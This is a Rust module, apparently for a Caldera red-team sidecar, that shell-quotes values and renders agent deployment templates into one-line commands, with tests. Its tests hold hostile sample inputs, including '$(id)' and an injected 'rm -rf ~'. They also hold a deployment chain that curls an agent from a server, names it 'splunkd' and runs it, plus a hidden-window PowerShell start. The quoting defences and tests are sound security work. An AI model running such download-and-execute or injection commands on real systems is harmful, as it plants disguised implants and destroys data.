//! Shell quoting, and turning a deployment template into a one-liner for one shell.
//!
//! Deployment commands (Caldera's or our own) are multi-line templates with `#{…}`
//! placeholders, written for one shell. [`render`] fills the placeholders from a fixed list of
//! known, non-secret values (never from anything else Caldera's config holds), points the agent
//! at the client's group, and joins the lines into one that can be pasted. A template that
//! still needs anything else is refused, so no `#{…}` ever reaches the output.
//!
//! The values come from [`super::names`] types and are inert in every shell already; the
//! quoting functions here are still applied where a value is inserted as a word, and are
//! tested with hostile input, so safety never rests on one check alone.

use super::names::{Architecture, Executor, Identifier, ImplantName, PublicServer};

/// Characters that need no quoting as a word in any of the three shells.
fn is_plain(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':'))
}

/// A POSIX shell word: bare when plain, else single-quoted (`'` written as `'\''`).
pub fn sh_quote(s: &str) -> String {
    if is_plain(s) {
        return s.to_string();
    }
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// A PowerShell word: bare when plain, else single-quoted (PowerShell also treats the
/// typographic quotes ‘ ’ ‚ ‛ as quotes, so they are doubled like `'`).
pub fn psh_quote(s: &str) -> String {
    if is_plain(s) && !s.starts_with('-') {
        return s.to_string();
    }
    let mut out = String::from("'");
    for c in s.chars() {
        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
            out.push(c);
        }
        out.push(c);
    }
    out.push('\'');
    out
}

/// Text inside a PowerShell double-quoted string: `` ` ``, `"` (and “ ” „) and `$` escaped
/// with a backtick.
pub fn psh_in_double_quotes(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        if matches!(c, '`' | '"' | '$' | '\u{201C}' | '\u{201D}' | '\u{201E}') {
            out.push('`');
        }
        out.push(c);
    }
    out
}

/// Text inside a POSIX double-quoted string: `\`, `"`, `$` and `` ` `` escaped.
pub fn sh_in_double_quotes(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        if matches!(c, '\\' | '"' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// A cmd.exe word. cmd has no escape inside double quotes: `%` and `!` still expand and `"`
/// ends the string, so a value holding any of them (or a line break) cannot be quoted safely
/// and is refused.
pub fn cmd_quote(s: &str) -> Option<String> {
    if s.chars()
        .any(|c| matches!(c, '"' | '%' | '!' | '\r' | '\n') || c.is_control())
    {
        return None;
    }
    if is_plain(s) {
        Some(s.to_string())
    } else {
        Some(format!("\"{s}\""))
    }
}

/// The known placeholders and what fills them. Anything else in a template is refused.
pub struct Values<'a> {
    pub server: &'a PublicServer,
    pub implant: &'a ImplantName,
    pub architecture: &'a Architecture,
}

/// Why a template could not be used.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RenderError {
    #[error("it needs #{{{0}}}, which the sidecar does not fill")]
    UnknownPlaceholder(String),
    #[error("it has an unterminated #{{ placeholder")]
    Unterminated,
    #[error("it does not start the agent with -server, so the group cannot be set")]
    NoGroupFlag,
    #[error("the group cannot be quoted for {0}")]
    Unquotable(&'static str),
}

fn fill(template: &str, v: &Values<'_>) -> Result<String, RenderError> {
    let mut out = String::with_capacity(template.len() + 64);
    let mut rest = template;
    while let Some(i) = rest.find("#{") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let end = after.find('}').ok_or(RenderError::Unterminated)?;
        let name = &after[..end];
        let value = match name {
            "app.contact.http" => v.server.as_str(),
            "agents.implant_name" => v.implant.as_str(),
            "agents.architecture" => v.architecture.as_str(),
            other => {
                return Err(RenderError::UnknownPlaceholder(
                    other.chars().take(60).collect(),
                ));
            }
        };
        out.push_str(value);
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    Ok(out)
}

/// Whether byte offset `at` of `line` lies inside a double-quoted string.
fn inside_double_quotes(line: &str, at: usize) -> bool {
    line[..at].chars().filter(|c| *c == '"').count() % 2 == 1
}

fn group_word(group: &Identifier, shell: Executor, in_dq: bool) -> Result<String, RenderError> {
    let g = group.as_str();
    Ok(match (shell, in_dq) {
        (Executor::Sh, true) => sh_in_double_quotes(g),
        (Executor::Sh, false) => sh_quote(g),
        (Executor::Psh, true) => psh_in_double_quotes(g),
        (Executor::Psh, false) => psh_quote(g),
        (Executor::Cmd, _) => cmd_quote(g).ok_or(RenderError::Unquotable("cmd"))?,
    })
}

/// The end of the word starting at `from` (a space, quote or `;` ends it).
fn word_end(line: &str, from: usize) -> usize {
    line[from..]
        .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';'))
        .map_or(line.len(), |i| from + i)
}

/// Points every start of the agent at `group`: `-group X` becomes `-group <group>`, and a
/// start without `-group` gets it right after `-server <address>`.
fn set_group(text: &str, group: &Identifier, shell: Executor) -> Result<String, RenderError> {
    let mut lines = Vec::new();
    let mut found = false;
    for line in text.lines() {
        let mut line = line.to_string();
        if let Some(i) = line.find("-group ") {
            let start = i + "-group ".len();
            let end = word_end(&line, start);
            let word = group_word(group, shell, inside_double_quotes(&line, start))?;
            line.replace_range(start..end, &word);
            found = true;
        } else if let Some(i) = line.find("-server ") {
            let end = word_end(&line, i + "-server ".len());
            let word = group_word(group, shell, inside_double_quotes(&line, end))?;
            line.insert_str(end, &format!(" -group {word}"));
            found = true;
        }
        lines.push(line);
    }
    if found {
        Ok(lines.join("\n"))
    } else {
        Err(RenderError::NoGroupFlag)
    }
}

/// Joins a multi-line command into one line for `shell`, adding a separator where a line
/// does not end with one (Caldera's own UI just deletes the line breaks).
fn one_line(text: &str, shell: Executor) -> String {
    let lines: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .collect();
    let mut out = String::new();
    for (i, l) in lines.iter().enumerate() {
        out.push_str(l);
        if i + 1 == lines.len() {
            break;
        }
        let ends = match shell {
            Executor::Cmd => l.ends_with('&') || l.ends_with('|'),
            Executor::Sh | Executor::Psh => {
                l.ends_with(';') || l.ends_with('&') || l.ends_with('|') || l.ends_with('{')
            }
        };
        if !ends {
            out.push_str(match shell {
                Executor::Cmd => " &",
                _ => ";",
            });
        }
        out.push(' ');
    }
    // A trailing `;` is noise on a pasted line.
    while out.ends_with(';') {
        out.pop();
    }
    out
}

/// A template for `shell`, filled, pointed at `group` and joined into one line.
pub fn render(
    template: &str,
    shell: Executor,
    group: &Identifier,
    values: &Values<'_>,
) -> Result<String, RenderError> {
    let filled = fill(template, values)?;
    let grouped = set_group(&filled, group, shell)?;
    let line = one_line(&grouped, shell);
    // `fill` consumed every placeholder; a value can hold no `#{` (its type forbids it).
    if line.contains("#{") {
        return Err(RenderError::Unterminated);
    }
    Ok(line)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sh_quoting() {
        assert_eq!(sh_quote("acme"), "acme");
        assert_eq!(sh_quote("$(id)"), "'$(id)'");
        assert_eq!(sh_quote("acme\"; rm -rf ~; \""), "'acme\"; rm -rf ~; \"'");
        assert_eq!(sh_quote("it's"), r"'it'\''s'");
        assert_eq!(sh_quote(""), "''");
        assert_eq!(sh_in_double_quotes("a\"$`\\"), "a\\\"\\$\\`\\\\");
    }

    #[test]
    fn psh_quoting() {
        assert_eq!(psh_quote("acme"), "acme");
        assert_eq!(psh_quote("$(id)"), "'$(id)'");
        assert_eq!(psh_quote("it's"), "'it''s'");
        assert_eq!(psh_quote("a\u{2019}b"), "'a\u{2019}\u{2019}b'");
        assert_eq!(psh_quote("-x"), "'-x'");
        assert_eq!(psh_in_double_quotes("a\"$(id)`"), "a`\"`$(id)``");
    }

    #[test]
    fn cmd_quoting() {
        assert_eq!(cmd_quote("acme").as_deref(), Some("acme"));
        assert_eq!(cmd_quote("a&b").as_deref(), Some("\"a&b\""));
        for bad in ["%PATH%", "a\"b", "!x!", "a\nb"] {
            assert_eq!(cmd_quote(bad), None, "{bad}");
        }
    }

    fn values() -> (PublicServer, ImplantName, Architecture) {
        (
            PublicServer::parse("s", "http://10.1.2.3:8888").unwrap(),
            ImplantName::parse("splunkd").unwrap(),
            Architecture::parse("amd64").unwrap(),
        )
    }

    #[test]
    fn render_fills_sets_group_and_joins() {
        let (s, i, a) = values();
        let v = Values {
            server: &s,
            implant: &i,
            architecture: &a,
        };
        let g = Identifier::parse("client", "acme").unwrap();
        let t = "server=\"#{app.contact.http}\";\ncurl -H \"architecture:#{agents.architecture}\" $server/file/download > #{agents.implant_name};\n./#{agents.implant_name} -server $server -group red -v\n";
        let line = render(t, Executor::Sh, &g, &v).unwrap();
        assert_eq!(
            line,
            "server=\"http://10.1.2.3:8888\"; curl -H \"architecture:amd64\" $server/file/download > splunkd; ./splunkd -server $server -group acme -v"
        );
        // No -group: inserted after -server; inside a double-quoted PowerShell argument list.
        let t =
            "Start-Process -FilePath x.exe -ArgumentList \"-server $server\" -WindowStyle hidden;";
        let line = render(t, Executor::Psh, &g, &v).unwrap();
        assert!(line.contains("\"-server $server -group acme\""), "{line}");
        assert!(matches!(
            render("x #{app.contact.ftp.pword}", Executor::Sh, &g, &v),
            Err(RenderError::UnknownPlaceholder(_))
        ));
        assert_eq!(
            render("echo hi", Executor::Sh, &g, &v),
            Err(RenderError::NoGroupFlag)
        );
        assert_eq!(
            render("x #{agents.implant_name", Executor::Sh, &g, &v),
            Err(RenderError::Unterminated)
        );
        let line = render("a\nb &&\nc -server x", Executor::Cmd, &g, &v).unwrap();
        assert_eq!(line, "a & b && c -server x -group acme");
    }
}
